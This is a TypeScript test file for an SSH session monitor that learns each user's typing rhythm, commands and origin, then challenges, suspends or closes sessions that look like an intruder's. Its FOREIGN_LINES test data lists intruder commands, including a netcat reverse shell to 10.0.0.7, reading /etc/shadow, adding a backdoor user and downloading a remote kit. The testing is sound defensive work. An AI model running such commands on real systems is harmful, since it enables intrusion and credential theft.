import { beforeAll, describe, expect, it } from "vitest";
import { DEFAULT_RISK_POLICY, type RiskPolicy } from "../../behaviour/index.js";
import { channelId, encodeUtf8, requestId } from "../../kernel/index.js";
import { seedOf } from "../seed.testing.js";
import { createSession } from "../index.js";
import { openStage } from "../stage.testing.js";
import {
  comparing,
  createShelf,
  linesOf,
  openDay,
  typistOf,
  type Day,
  type Shelf,
  type Workday,
} from "./workday.testing.js";

const PEOPLE = ["alice", "bob", "carol"];
const DAYS = 12;
const LINES_A_DAY = 30;
const SHORT_VISITS = 60;
/** Somebody whom the site does not know. */
const STRANGER = 7;
const FOREIGN_LINES = [
  "id",
  "uname -a",
  "cat /etc/shadow",
  "nc -e /bin/sh 10.0.0.7 4444",
  "useradd backdoor",
  "chmod 4755 /tmp/x",
  "curl -O http://10.0.0.7/kit",
  "tar xf kit",
];

function policyOf(steps: Partial<RiskPolicy["steps"]>): RiskPolicy {
  return { ...DEFAULT_RISK_POLICY, steps: { ...DEFAULT_RISK_POLICY.steps, ...steps } };
}

const SUSPENDS = DEFAULT_RISK_POLICY;
/** One mild sign is enough to ask. */
const TOUCHY = policyOf({ notify: null, warn: null, reauth: 15 });
const KILLS = policyOf({ kill: 85 });

function enrolled(): Shelf {
  const shelf = createShelf();
  for (let day = 0; day < DAYS; day += 1) {
    for (const [number, person] of PEOPLE.entries()) {
      const startsMs = Date.UTC(2026, 10, 2 + day, 9);
      const work = openDay({ person, shelf, policy: SUSPENDS, startsMs });
      work.lines(typistOf(number, day), linesOf(number, day, LINES_A_DAY));
      work.leave();
    }
  }
  // Where somebody comes from says something only after many sessions.
  for (let visit = 0; visit < SHORT_VISITS; visit += 1) {
    const startsMs = Date.UTC(2026, 9, 1 + visit, 9);
    openDay({ person: "alice", shelf, policy: SUSPENDS, startsMs }).leave();
  }
  return comparing(shelf);
}

let shelf: Shelf;
beforeAll(() => {
  shelf = enrolled();
});

/** Alice's next session; what it learns is not kept for the others. */
function today(over: Partial<Day> = {}): Workday {
  return openDay({
    person: "alice",
    shelf: { ...shelf, profiles: new Map(shelf.profiles) },
    policy: SUSPENDS,
    startsMs: Date.UTC(2026, 10, 2 + DAYS, 9),
    ...over,
  });
}

function strangerIn(work: Workday): void {
  work.lines(typistOf(STRANGER, 1), linesOf(5, 1, LINES_A_DAY));
}

describe("a person at their own work", () => {
  it("is asked nothing, and teaches their profile", () => {
    const work = today();
    work.lines(typistOf(0, 99), linesOf(0, 99, LINES_A_DAY));
    work.leave();
    expect(work.events("command.entered")).toHaveLength(LINES_A_DAY);
    expect(work.events("reauth.requested")).toEqual([]);
    const kept = work.kept();
    expect(kept?.context?.sessions).toBe(DAYS + SHORT_VISITS + 1);
    expect(kept?.sequence?.counts.commands.length).toBeGreaterThan(3);
    expect(kept?.keystroke?.timings.learnt).toBeGreaterThan(1_000);
  });

  it("from an address far away and at night is told of, and goes on", () => {
    const work = today({ startsMs: Date.UTC(2026, 10, 15, 3), origin: "203.0.113.9" });
    const told = work.events("anomaly.detected").map((one) => one.detector);
    expect(told).toContain("origin");
    expect(work.events("risk.changed").at(-1)?.reasons.join()).toContain("from 203.0.113.9");
    work.lines(typistOf(0, 99), linesOf(0, 99, 3));
    expect(work.events("command.entered")).toHaveLength(3);
  });
});

describe("somebody else at the person's keyboard", () => {
  it("is asked who they are before the line that they type runs", () => {
    const work = today();
    strangerIn(work);
    expect(work.events("reauth.requested")).toMatchObject([{ trigger: "risk", factor: "totp" }]);
    // Every line that reached the target has its event; the one being typed did not reach it.
    expect(work.submits()).toBe(work.events("command.entered").length);
    expect(work.free()).toBe(false);
    const anomaly = work.events("anomaly.detected").find((one) => one.detector === "keystroke");
    expect(anomaly).toMatchObject({ warm: true });
    expect(anomaly?.reasons[0]).toMatch(/^typing unlike alice: evidence \d/);
    expect(work.events("risk.changed").at(-1)).toMatchObject({ step: "reauth" });
  });

  it("who does not pass stands still, for a reason that an analyst can read", () => {
    const work = today({ options: { stepUp: { attempts: 1 } } });
    strangerIn(work);
    work.answer("000000", "refused");
    expect(work.events("session.suspended")).toMatchObject([{ by: "risk" }]);
    const last = work.events("risk.changed").at(-1);
    expect(last?.step).toBe("suspend");
    expect(last?.reasons[0]).toMatch(/^did not prove who they are \(reauth, p = .*, \d+ points\)$/);
    expect(last?.reasons[1]).toMatch(/^typing unlike alice/);
  });

  it("who does not pass is out where the policy says so", () => {
    const work = today({ policy: KILLS, options: { stepUp: { attempts: 1 } } });
    strangerIn(work);
    work.answer("000000", "refused");
    const ends = work.effects.filter((effect) => effect.kind === "close-session");
    expect(ends).toHaveLength(1);
    work.leave();
    expect(work.events("session.closed")).toMatchObject([{ reason: "killed: risk" }]);
  });

  it("teaches the profile nothing", () => {
    const before = shelf.profiles.get("alice")?.profile;
    const work = today({ options: { stepUp: { attempts: 1 } } });
    strangerIn(work);
    work.answer("000000", "refused");
    work.leave();
    expect(work.kept()).toEqual({
      ...before,
      // What the last session leaves of suspicion is no lesson.
      ...(before?.sequence === undefined
        ? {}
        : {
            sequence: {
              ...before.sequence,
              evidence: expect.any(Number) as number,
              judged: expect.any(Number) as number,
            },
          }),
    });
  });

  it("only who passes is the person again: the line runs, and the profile knows the new typing", () => {
    const work = today();
    strangerIn(work);
    const before = work.submits();
    work.answer("123456", "accepted");
    expect(work.submits()).toBe(before + 1);
    expect(work.free()).toBe(true);
    expect(work.events("risk.changed").at(-1)).toMatchObject({ score: 0 });
    work.leave();
    const learnt = (one: Workday): number => one.kept()?.keystroke?.timings.learnt ?? 0;
    expect(learnt(work)).toBeGreaterThan(
      shelf.profiles.get("alice")?.profile.keystroke?.timings.learnt ?? Infinity,
    );
  });

  it("is found by their commands as well, which wait until that is answered", () => {
    const work = today({ policy: TOUCHY, options: { rules: NO_RULES } });
    work.lines(typistOf(0, 99), [...FOREIGN_LINES, ...FOREIGN_LINES, ...FOREIGN_LINES]);
    const found = work.events("anomaly.detected").filter((one) => one.detector === "sequence");
    expect(found[0]?.reasons[0]).toMatch(/^commands unlike alice: /);
    expect(work.events("reauth.requested")).toHaveLength(1);
    expect(work.submits()).toBe(work.events("command.entered").length);
  });

  it("is only told of where the policy is tried out", () => {
    const work = today({ mode: "shadow" });
    strangerIn(work);
    expect(work.events("command.entered")).toHaveLength(LINES_A_DAY);
    expect(work.events("action.taken")).toContainEqual(
      expect.objectContaining({ action: "reauth", outcome: "shadow", by: "risk:ladder" }),
    );
  });

  it("stands still at once where the person has nothing to prove themselves with", () => {
    const work = today({ options: { factors: [] } });
    strangerIn(work);
    expect(work.events("session.suspended")).toMatchObject([{ by: "risk" }]);
  });
});

const NO_RULES = `
apiVersion: chaperone/v1
kind: RulePack
metadata: { name: none, version: 1.0.0 }
rules: []
`;

/** A rule that holds in risky sessions only. */
const RISKY_RULES = `
apiVersion: chaperone/v1
kind: RulePack
metadata: { name: risky, version: 1.0.0 }
rules:
  - id: risky-git
    name: No git while it is not sure who this is
    criticality: informational
    scope: { sessionRisk: ">=30" }
    match: { command: { exec: [git, tail, systemctl, grep, df, ls, cd, journalctl, ps, ss, vi] } }
    action: block
`;

const ANOMALY_RULES = `
apiVersion: chaperone/v1
kind: RulePack
metadata: { name: odd, version: 1.0.0 }
rules:
  - id: odd-typing
    name: Somebody else types
    criticality: informational
    match: { anomaly: { detector: keystroke, score: ">=0.99", warm: true } }
    action: suspend
`;

describe("rules of a risky session", () => {
  it("hold once the session is risky, and not before", () => {
    const quiet = today({ options: { rules: RISKY_RULES } });
    quiet.lines(typistOf(0, 99), linesOf(0, 99, 10));
    expect(quiet.events("rule.matched")).toEqual([]);
    const risky = today({ policy: policyOf({ reauth: null }), options: { rules: RISKY_RULES } });
    strangerIn(risky);
    expect(risky.events("rule.matched")[0]?.rule.id).toBe("risky-git");
  });

  it("about an anomaly act on what a detector tells, however low the risk is", () => {
    const never = policyOf({ notify: null, warn: null, reauth: null, suspend: null });
    const work = today({ policy: never, options: { rules: ANOMALY_RULES } });
    strangerIn(work);
    const [hit] = work.events("rule.matched");
    expect(hit).toMatchObject({ rule: { id: "odd-typing" }, mode: "enforce" });
    expect(hit?.evidence).toMatch(/^keystroke unlike the person, score 0\.99/);
    expect(work.events("session.suspended")).toHaveLength(1);
    expect(work.events("action.taken")).toContainEqual(
      expect.objectContaining({ action: "suspend", rule: "odd-typing" }),
    );
  });

  it("bring their own score", () => {
    const stage = openStage({}, { behaviour: { policy: SUSPENDS, mode: "enforce", site } });
    stage.line(stage.terminal(), "touch block");
    expect(stage.events("risk.changed").at(-1)).toMatchObject({ step: "notify", score: 40 });
  });
});

const site = (): ReturnType<Shelf["site"]> => shelf.site();

describe("what is watched", () => {
  it("is never what was typed unseen, nor how long it took", () => {
    const work = today();
    const before = JSON.stringify(work.kept());
    work.unseen("sudo -s", "correct horse battery staple zzzz qqqq");
    work.leave();
    expect(work.kept()?.keystroke?.timings).toEqual(
      (JSON.parse(before) as ReturnType<Workday["kept"]>)?.keystroke?.timings,
    );
  });

  it("is the same however often it is played", () => {
    const plays = [0, 1].map(() => {
      const work = today();
      strangerIn(work);
      work.leave();
      return work.effects;
    });
    expect(plays[0]).toEqual(plays[1]);
  });

  it("is nothing where nobody asked for it", () => {
    const session = createSession(seedOf());
    const stamp = { at: 1 as never, wall: 1 as never }; // any time
    const effects = [
      ...session.step({ kind: "opened", ...stamp }),
      ...session.step({
        kind: "channel-asked",
        channel: channelId(1),
        request: requestId(1),
        asked: { type: "session" },
        ...stamp,
      }),
      ...session.step({
        kind: "client-sent",
        channel: channelId(1),
        bytes: encodeUtf8("ls"),
        ...stamp,
      }),
    ];
    const kinds = effects.map((effect) => effect.kind);
    expect(kinds).not.toContain("ask-profile");
    expect(kinds).not.toContain("set-timer");
  });

  it("teaches nothing where what is stored could not be fetched", () => {
    const work = today({ shelf: { profiles: new Map(), site, broken: true } });
    work.lines(typistOf(0, 99), linesOf(0, 99, 10));
    work.leave();
    expect(work.effects.some((effect) => effect.kind === "keep-profile")).toBe(false);
    expect(work.events("command.entered")).toHaveLength(10);
  });

  it("fades while nothing happens", () => {
    const work = today({ policy: policyOf({ reauth: null, suspend: null }) });
    strangerIn(work);
    const high = work.events("risk.changed").at(-1)?.score ?? 0;
    work.wait(3_600_000);
    const low = work.events("risk.changed").at(-1);
    expect(low?.previous).toBeGreaterThan(0);
    expect(low?.score).toBeLessThan(high - 20);
  });
});

describe("a session that is odd from its beginning", () => {
  const far = { startsMs: Date.UTC(2026, 10, 15, 3), origin: "203.0.113.9" };

  it("is asked on its first terminal, before its first line", () => {
    const work = today({ ...far, policy: TOUCHY });
    expect(work.events("reauth.requested")).toHaveLength(1);
    expect(work.free()).toBe(false);
  });

  it("runs no command where there is nothing to ask on", () => {
    const work = today({ ...far, policy: TOUCHY, shell: false });
    const channel = channelId(9);
    work.step({
      kind: "channel-asked",
      channel,
      request: requestId(90),
      asked: { type: "session" },
    });
    work.step({
      kind: "request-asked",
      channel,
      request: requestId(91),
      asked: { type: "exec", command: "ls" },
    });
    expect(work.events("session.suspended")).toMatchObject([{ by: "risk" }]);
    expect(work.events("command.entered")).toEqual([]);
  });
});
